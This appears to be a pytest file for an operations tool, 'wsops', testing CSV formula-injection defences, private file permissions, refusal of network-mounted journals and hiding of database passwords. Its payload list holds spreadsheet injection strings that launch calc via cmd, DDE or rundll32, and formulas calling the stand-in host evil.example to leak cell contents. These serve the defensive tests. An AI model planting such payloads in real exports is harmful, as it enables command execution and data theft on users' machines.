"""Files are private whatever the umask, tables hold no formula, and locks can be trusted."""

import csv
import io
import json
import os
import stat
from pathlib import Path

import pytest

from wsops import database
from wsops.database import refuse_network_file_system
from wsops.errors import JournalError
from wsops.files import as_csv

FORMULAS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "=cmd|' /C calc'!'A1'",
    "+cmd|'/C calc'!A0",
    "-cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")',
    '=IMPORTDATA("http://evil.example")',
    '=IMAGE("http://evil.example/x.png")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "=10+20+cmd|' /C calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "==1",
    "=+1",
    "=-1",
    "=@1",
    "= 1",
    "=",
    "+",
    "-",
    "@",
    "+1",
    "-1",
    "-2+3",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\x00=1+1",
    " =1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u2003=1+1",
    "\v=1+1",
    "\f=1+1",
    " \t=1+1",
    "\t",
    "\r",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    " \uff1d1+1",
    "\u3000\uff1d1+1",
    '=1,"x"',
    '"=1+1',
    '",=1+1,"',
    '"\n=1+1,"',
    "a\n=1+1",
    "a\r\n=1+1",
    "a,=1+1",
    "a;=1+1",
    "a\t=1+1",
    "a|=1",
    "'=1+1",
]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_cell_is_taken_for_a_formula(payload):
    """Each payload stays one cell, keeps its text, and does not begin like a formula."""
    text = as_csv(("a", "b"), [(payload, "x")])
    _, (cell, other) = csv.reader(io.StringIO(text, newline=""))
    assert other == "x"
    assert cell.removeprefix("'") == payload.removeprefix("'")
    assert not cell.startswith(STARTS)
    assert not cell.lstrip().startswith(STARTS)


@pytest.mark.parametrize("payload", FORMULAS[:8])
def test_names_of_the_service_make_no_formula(place, wsops, tmp_path, payload):
    """A user or a pool named like a formula comes out as text in every table."""
    for desktop in place.cloud.desktops.values():
        place.cloud.set_login(desktop.id, "REGISTERED", user=payload)
    for pool in place.cloud.pools.values():
        pool.row["name"] = payload
    wsops("audit", "--csv", tmp_path / "m.csv", code=0)
    rows = list(csv.reader(io.StringIO((tmp_path / "m.csv").read_text(), newline="")))
    assert len(rows) > 1
    assert any(payload in cell for row in rows for cell in row)
    assert not any(cell.startswith(STARTS) for row in rows for cell in row)


@pytest.mark.parametrize("umask", [0o000, 0o022, 0o077])
@pytest.mark.parametrize("journal", ["default", "elsewhere"])
def test_every_file_is_private(place, wsops, applied, tmp_path, monkeypatch, umask, journal):
    """Plans, tables, fleets, journals, locks and keys: files 0600, folders that we make 0700."""
    (tmp_path / "state").mkdir()
    if journal == "elsewhere":
        monkeypatch.setenv("WSOPS_JOURNAL", str(tmp_path / "kept" / "j.sqlite"))
    before = os.umask(umask)
    try:
        applied()
        wsops("audit", "--csv", tmp_path / "m.csv", "--save", tmp_path / "f.json", "--record")
        wsops("handover", "-o", tmp_path / "h.csv", code=0)
    finally:
        os.umask(before)
    made = [path for path in tmp_path.rglob("*") if path != tmp_path / "state"]
    files = {path.name: stat.S_IMODE(path.stat().st_mode) for path in made if path.is_file()}
    folders = {path.name: stat.S_IMODE(path.stat().st_mode) for path in made if path.is_dir()}
    assert {"plan.json", "m.csv", "f.json", "h.csv", "alias.key"} <= files.keys()
    assert set(files.values()) == {0o600}, files
    assert set(folders.values()) == {0o700}, folders


MOUNTS = """\
/dev/sda1 / ext4 rw 0 0
tmpfs /run tmpfs rw 0 0
server:/home /home {kind} rw 0 0
server:/a\\040b /mnt/a\\040b {kind} rw 0 0
/dev/sdb1 /home/local ext4 rw 0 0
"""
KINDS = ["nfs", "nfs4", "cifs", "smb3", "9p", "fuse.sshfs", "afs", "ceph"]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("path", ["/home/u/j.sqlite", "/mnt/a b/j.sqlite"])
def test_a_journal_on_a_network_is_refused(kind, path):
    """Locks do not hold there: the refusal names the kind, and a place that would do."""
    with pytest.raises(JournalError, match="whose locks do not hold") as refusal:
        refuse_network_file_system(Path(path), MOUNTS.format(kind=kind))
    assert f"({kind})" in str(refusal.value)
    assert refusal.value.remedy.startswith("set WSOPS_JOURNAL=/var/tmp/")


@pytest.mark.parametrize("path", ["/home/local/j.sqlite", "/homes/j.sqlite", "/run/j", "/j"])
def test_a_journal_on_a_disk_is_not(path):
    """The longest mount point decides; a name that only begins like one does not."""
    refuse_network_file_system(Path(path), MOUNTS.format(kind="nfs4"))


def test_a_link_to_a_network_is_seen(place, wsops, tmp_path, monkeypatch):
    """A path that leads to the network by a link is refused, and nothing is sent or written."""
    there = tmp_path / "there"
    there.mkdir()
    (tmp_path / "here").symlink_to(there)
    mounts = f"/dev/sda1 / ext4 rw 0 0\nserver:/x {there.resolve()} nfs4 rw 0 0\n"
    monkeypatch.setattr(database, "_mounts", lambda: mounts)
    monkeypatch.setenv("WSOPS_JOURNAL", str(tmp_path / "here" / "j.sqlite"))
    plan = tmp_path / "plan.json"
    wsops("plan", "repair", "-o", plan, code=0)
    digest = json.loads(plan.read_text())["digest"]
    done = wsops("apply", plan, "--yes", "--digest", digest, code=5)
    assert "network file system (nfs4)" in done.stderr
    assert list(there.iterdir()) == []
    assert place.ledger.entries("RebuildDesktopPool") == []


@pytest.mark.parametrize("url", ["postgresql://ops:hidden-word@db/j", "mysql://ops:hidden-word@db"])
def test_a_journal_by_url_is_refused_without_its_password(place, wsops, monkeypatch, url):
    """What is not SQLite is said, and the URL's password is not."""
    monkeypatch.setenv("WSOPS_JOURNAL", url)
    for command in ("status", "history", "doctor"):
        done = wsops(command)
        assert "hidden-word" not in done.stdout + done.stderr
